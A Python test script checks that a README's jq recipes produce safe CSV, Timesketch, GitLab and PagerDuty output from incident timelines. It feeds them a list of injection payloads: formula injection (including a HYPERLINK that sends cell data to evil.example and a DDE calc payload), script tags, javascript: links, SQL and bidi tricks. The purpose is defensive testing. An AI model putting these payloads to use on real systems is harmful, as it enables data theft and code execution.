#!/usr/bin/python3
"""cookbook: the README's recipes for jq, over the samples' drafts and over hostile ones; what they write is read back by Python.

Takes  the program. Recipes: the blocks of README.md marked "<!-- run -->" that call jq; the remark above each names it.
Gives  FAIL lines; last line "N passed, N failed".
Holds  nothing. What is expected is worked out here, from the JSON alone, and from the rules of who reads it:
       CSV         RFC 4180; no cell that begins with what a spreadsheet takes for a formula (OWASP, CSV Injection), whatever it splits at
       Timesketch  google/timesketch, timesketch/lib/utils.py, read_and_validate_jsonl
       GitLab      argument types of Mutations::IncidentManagement::TimelineEvent::Create; 280 characters; the note is Markdown
       PagerDuty   PagerDuty/api-schema, POST /incidents/{id}/notes: {"note": {"content"}}
Never  asks jq what is right.
"""
import copy
import csv
import datetime
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import unicodedata
from pathlib import Path

from fact import done, fact

ROOT = Path(__file__).resolve().parent.parent
ONSET = Path(sys.argv[1]).resolve()
FORMULA = "=+-@\t\r\n＝＋－＠"
ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)", "\t=1+1", "  =1+1", "a;=1+1", "a,@b", "x\"=1+1", "' =1",
    "\"=1+1", "a|-1", "＝1+1", "<script>alert(1)</script>", "[x](javascript:alert(1))", "![i](http://evil.example/i.png)", "http://evil.example/x www.evil.example",
    "@all #1 !2 ~bug %3 $4 &5", "`code` *b* _i_ ~~s~~ {{x}} ^u^", "\\", "\\" * 600, "*" * 900, "\u202egnp.exe", "\u001b[31mred\u001b[0m \u0007", "\u2028x\u2029",
    "\"; DROP TABLE incidents; --", "😀" * 300, "{\"note\": null}", "a" * 1024, "|=1|", "%0a/close", "é\u0301\ufeff",
]


def yes(good, name):
    fact(name, good)


def same(seen, wanted, name):
    fact(name, seen == wanted, "" if seen == wanted else f"seen {str(seen)[:300]}, wanted {str(wanted)[:300]}")


def recipes():
    """{first words of the remark: command}"""
    blocks = re.findall(r"<!-- run -->\n```\n(.*?)```", (ROOT / "README.md").read_text(), re.S)
    found = {}
    for block in blocks:
        for remark, command in re.findall(r"^# (.*)\n\$ ((?:TZ=UTC )?jq .*(?:\n .*)*)", block, re.M):
            found[remark] = command
    return found


def run(command, draft):
    """What a recipe writes of a draft, in an odd zone and locale."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "timeline.json"
        path.write_text(json.dumps(draft))
        yes("build/timeline.json" in command, f"the recipe names its draft: {command}")
        ran = subprocess.run(["sh", "-c", command.replace("build/timeline.json", str(path))], capture_output=True, check=False,
                             env={**os.environ, "TZ": "Pacific/Chatham", "LC_ALL": "C"}, timeout=60)
    same((ran.returncode, ran.stderr.decode()), (0, ""), f"jq is content: {command[:60]}")
    return ran.stdout.decode()


def lines(text):
    return [json.loads(line) for line in text.split("\n")[:-1]]


def instant(text):
    at = datetime.datetime.fromisoformat(text.replace("Z", "+00:00"))
    same(at.utcoffset(), datetime.timedelta(0), f"{text}: an instant of UTC")
    return (at - datetime.datetime(1970, 1, 1, tzinfo=datetime.timezone.utc)) // datetime.timedelta(microseconds=1)


# ---- who reads it ----

def same_cell(cell, value):
    """Whether a cell says the value: apostrophes may have come in where a formula could begin."""
    text = "" if value is None else str(value)
    return cell == text or ((text[:1].isspace() or any(c in text for c in FORMULA)) and cell.replace("'", "") == text.replace("'", ""))


def is_number(cell):
    return re.fullmatch(r"-?[0-9]+", cell) is not None


def check_csv(command, draft, name):
    text = run(command, draft)
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    keys = ["id", "onset", "end", "requests", "failed", "refused", "cause", "word", "title"]
    same(rows[0], keys, f"{name}: CSV: the header")
    same(len(rows) - 1, len(draft["incidents"]), f"{name}: CSV: a row for each incident")
    for row, incident in zip(rows[1:], draft["incidents"]):
        first = incident["causes"][0] if incident["causes"] else {"cause": None, "word": None}
        wanted = [incident["id"], incident["onset"]["at"], incident["end"]["at"], incident["impact"]["requests"], incident["impact"]["failed"],
                  incident["refused"], first["cause"], first["word"], incident["title"]]
        yes(len(row) == len(wanted) and all(map(same_cell, row, wanted)), f"{name}: CSV: the incident's cells: {row}, {wanted}")
        yes(not any(cell[:1].isspace() or cell.startswith(tuple(FORMULA)) for cell in row), f"{name}: CSV: a cell is a formula: {row}")
    for delimiter in ",;\t|":  # spreadsheets of other countries split at other characters
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                bad = cell.strip().lstrip("\"").lstrip().startswith(tuple(FORMULA)) and not is_number(cell)
                yes(not bad, f"{name}: CSV split at {delimiter!r}: a cell is a formula: {cell!r}")


def check_timesketch(command, draft, name):
    written = lines(run(command, draft))
    same(len(written), len(draft["timeline"]), f"{name}: Timesketch: a line for each entry")
    for event, entry in zip(written, draft["timeline"]):
        same([event["message"], event["tag"]], [entry["summary"], [entry["tier"], entry["severity"]]], f"{name}: Timesketch: message and tags")
        yes(isinstance(event["timestamp_desc"], str) and entry["kind"] in event["timestamp_desc"], f"{name}: Timesketch: timestamp_desc names the kind")
        yes(event["datetime"].endswith("+00:00"), f"{name}: Timesketch: datetime says that it is UTC: {event['datetime']}")
        yes(type(event["timestamp"]) is int, f"{name}: Timesketch: timestamp is an integer")
        same([event["timestamp"], instant(event["datetime"])], [instant(entry["at"])] * 2, f"{name}: Timesketch: microseconds, and both the same instant")
        yes(not set(event) & {"_id", "_type", "_index", "_source", "__ts_timeline_id"}, f"{name}: Timesketch: no field that it takes away")
        yes(all(len(value.encode()) < 32766 for value in event.values() if isinstance(value, str)), f"{name}: Timesketch: keywords are short")


def rendered(markdown):
    """The inline elements of CommonMark with GitHub's additions, by pandoc: [their names], their text."""
    ran = subprocess.run(["pandoc", "-f", "gfm-smart", "-t", "json"], input=markdown.encode(), capture_output=True, check=True)
    names, text = set(), []

    def walk(value):
        if isinstance(value, dict) and "t" in value:
            names.add(value["t"])
            text.append(value["c"] if value["t"] in ("Str",) else " " if value["t"] in ("Space", "SoftBreak") else "")
        for sub in value.values() if isinstance(value, dict) else value if isinstance(value, list) else []:
            walk(sub)
    walk(json.loads(ran.stdout)["blocks"])
    return names, "".join(text)


def check_gitlab(command, draft, name):
    written = lines(run(command, draft))
    same(len(written), len(draft["timeline"]), f"{name}: GitLab: a call for each entry")
    # Names of IncidentManagement::TimelineEventTag, predefined ones.
    tags = {"onset": ["Start time"], "alert": ["Impact detected"], "mitigation": ["Impact mitigated"], "end": ["End time"]}
    for call, entry in zip(written, draft["timeline"]):
        same(set(call), {"input"}, f"{name}: GitLab: the mutation's one variable")
        given = call["input"]
        same(set(given), {"incidentId", "occurredAt", "note", "timelineEventTagNames"}, f"{name}: GitLab: the input's fields")
        yes(re.fullmatch(r"gid://gitlab/Issue/[0-9]+", given["incidentId"]) is not None, f"{name}: GitLab: a global id of an issue")
        same(instant(given["occurredAt"]), instant(entry["at"]), f"{name}: GitLab: occurredAt")
        same(given["timelineEventTagNames"], tags.get(entry["kind"], []), f"{name}: GitLab: tags")
        yes(0 < len(given["note"]) <= 280, f"{name}: GitLab: {len(given['note'])} characters")
        whole = f"{entry['tier']}: {entry['summary']}"
        plain = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", given["note"])
        yes(plain == whole or (plain.endswith("…") and whole.startswith(plain[:-1])), f"{name}: GitLab: the note says what the entry says: {plain!r}")
        bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", given["note"])
        yes(not re.search(r"[\\`*_{}\[\]<>#@!~$%&^|]|://", bare), f"{name}: GitLab: nothing in the note is markup or a reference: {given['note']!r}")
        if name == "hostile" and shutil.which("pandoc"):
            names, text = rendered(given["note"])
            same(names - {"Para", "Plain", "Str", "Space", "SoftBreak"}, set(), f"GitLab: rendered, it is text: {given['note']!r}")
            yes("".join(text.split()) == "".join(plain.split()), f"GitLab: rendered, it is the same text: {text!r}, {plain!r}")


def check_pagerduty(command, draft, name):
    written = lines(run(command, draft))
    same(len(written), len(draft["timeline"]), f"{name}: PagerDuty: a note for each entry")
    yes(len(written) <= 2000, f"{name}: PagerDuty: an incident takes 2,000 notes")
    for body, entry in zip(written, draft["timeline"]):
        same(body, {"note": {"content": f"{entry['at'][:19]}Z {entry['tier']}: {entry['summary']}"}}, f"{name}: PagerDuty: the body")


def is_safe(text, name):
    """For a terminal: nothing but printable ASCII."""
    yes(all(" " <= c <= "~" or c == "\n" for c in text), f"{name}: printable ASCII: {[unicodedata.name(c, hex(ord(c))) for c in text if not ' ' <= c <= '~'][:3]}")


def check_unknowns(command, draft, name):
    text = run(command, draft)
    is_safe(text, f"{name}: unknowns")
    same(lines(text), [[u["what"], u["why"], u["setting"]] for u in draft["unknowns"]], f"{name}: unknowns")


def check_onsets(command, draft, name):
    text = run(command, draft)
    is_safe(text, f"{name}: onsets")
    written = lines(text)
    if name != "hostile":
        same(sorted(line["at"] for line in written), sorted(i["onset"]["at"] for i in draft["incidents"]), f"{name}: a line for each incident's onset")
    bursts = {burst["id"]: burst for burst in draft["bursts"]}
    for line in written:
        first = [bursts[b]["evidence"][0] for i in draft["incidents"] for b in i["bursts"] if i["onset"]["at"] == bursts[b]["onset"]["at"] == line["at"]]
        yes((line["path"], line["line"], line["excerpt"]) in [(e["path"], e["line"], e["excerpt"]) for e in first], f"{name}: it is the first record of the burst that begins then")
        if name in ("checkout-outage", "lock-pileup"):  # their stamps print UTC
            log = subprocess.run(["gzip", "-dc", ROOT / line["path"]], capture_output=True, check=True).stdout.split(b"\n")[line["line"] - 1]
            yes(line["at"][11:23].encode() in log, f"{name}: that line of that file has that time: {log!r}")


CHECKS = {"incidents as CSV": check_csv, "JSON Lines for Timesketch": check_timesketch, "variables of GitLab's": check_gitlab,
          "bodies of PagerDuty's": check_pagerduty, "what is not known": check_unknowns, "the line that proves each onset": check_onsets}


# ---- drafts ----

def draft_of(*arguments):
    ran = subprocess.run([ONSET, "draft", *arguments, "-o", "-"], capture_output=True, check=False, cwd=ROOT)
    yes(ran.returncode in (0, 1), f"a draft of {arguments}: {ran.stderr.decode()[:200]}")
    return json.loads(ran.stdout)


def hostile(draft):
    """A draft whose free texts are attacks, an entry and an incident for each; all else as it is."""
    out = copy.deepcopy(draft)
    entries = [e for e in out["timeline"] if e["kind"] in ("onset", "end", "symptom")]
    bursts = {b["id"]: b for b in out["bursts"]}
    first = {e["kind"]: e for e in entries}
    out["timeline"] = [{**first[kind], "summary": attack} for attack in ATTACKS for kind in ("onset", "end")]
    for attack, entry in zip(ATTACKS, out["timeline"][::2]):
        entry["evidence"] = [{**e, "path": attack, "excerpt": attack} for e in entry["evidence"]]
    for incident in out["incidents"]:  # the attacks in the first record of the bursts with which it begins
        for b in incident["bursts"]:
            if bursts[b]["onset"]["at"] == incident["onset"]["at"]:
                bursts[b]["evidence"] = [copy.deepcopy(bursts[b]["evidence"][0]) for _ in ATTACKS]
    out["incidents"] = [{**copy.deepcopy(out["incidents"][0]), "title": attack} for attack in ATTACKS]
    out["unknowns"] = [{"what": a, "why": a, "setting": a} for a in ATTACKS]
    return out


def main():
    os.chdir(ROOT)
    found = recipes()
    by = {}
    for remark, command in found.items():
        mine = [check for words, check in CHECKS.items() if remark.startswith(words)]
        yes(len(mine) == 1, f"README: a recipe that no test knows: {remark}")
        by.update({mine[0]: command} if mine else {})
    same(len(by), len(CHECKS), "README: a recipe for each test")
    drafts = {path.parent.name: draft_of(str(path.relative_to(ROOT))) for path in sorted((ROOT / "samples").glob("*/logs"))}
    with tempfile.TemporaryDirectory() as folder:
        attack = Path(folder) / "=1+1;@x,\u001b[31m\u202e`*[a](b).log"
        attack.write_bytes(subprocess.run("gzip -dc samples/checkout-outage/logs/postgresql-*.gz", shell=True, capture_output=True, check=True).stdout)
        Path(folder, "none.log").write_text("2026-11-22T13:40:04Z INFO nothing\n")
        drafts["a hostile name"] = draft_of(str(attack))
        drafts["nothing"] = draft_of(str(Path(folder, "none.log")))
    for name, draft in drafts.items():
        for check, command in by.items():
            check(command, draft, name)
    evil = hostile(drafts["checkout-outage"])
    for check, command in by.items():
        if check is not check_onsets:
            check(command, evil, "hostile")
    written = lines(run(by[check_onsets], evil))
    is_safe(run(by[check_onsets], evil), "hostile: onsets")
    same([[line["path"], line["excerpt"], line["summary"]] for line in written], [[a, a, a] for a in ATTACKS], "hostile: onsets")
    done()


main()
